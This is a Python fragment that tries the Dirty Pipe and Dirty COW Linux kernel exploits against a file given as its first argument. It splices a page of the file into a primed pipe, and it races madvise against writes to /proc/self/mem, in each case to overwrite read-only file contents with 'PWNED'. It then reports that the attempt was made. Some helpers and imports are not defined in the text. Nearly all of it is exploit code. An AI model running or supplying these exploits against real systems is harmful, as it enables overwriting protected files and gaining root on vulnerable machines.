# Dirty Pipe and Dirty COW on the file that the first argument names.
import fcntl, threading
file = os.open(sys.argv[1], os.O_RDONLY)
# A pipe that was full once, one page of the file spliced in, then written over.
r, w = os.pipe()
size = fcntl.fcntl(w, 1032)
for _ in range(0, size, 4096): os.write(w, b"x" * 4096)
for _ in range(0, size, 4096): os.read(r, 4096)
at = ctypes.c_longlong(0)
if raw(275, file, ctypes.byref(at), w, 0, 1, 0) == 1:
    os.write(w, b"PWNED")
# A private mapping written through /proc/self/mem while its page is dropped.
libc.mmap.restype = ctypes.c_void_p
address = libc.mmap(None, ctypes.c_size_t(4096), 1, 2, file, ctypes.c_long(0))
stop = False
def drop():
    while not stop:
        libc.madvise(ctypes.c_void_p(address), ctypes.c_size_t(4096), 4)
thread = threading.Thread(target=drop)
thread.start()
memory = attempt(os.open, "/proc/self/mem", os.O_RDWR)
end = time.monotonic() + 0.7
while isinstance(memory, int) and time.monotonic() < end:
    attempt(os.pwrite, memory, b"PWNED", address)
stop = True
thread.join()
tell({"tried": True})
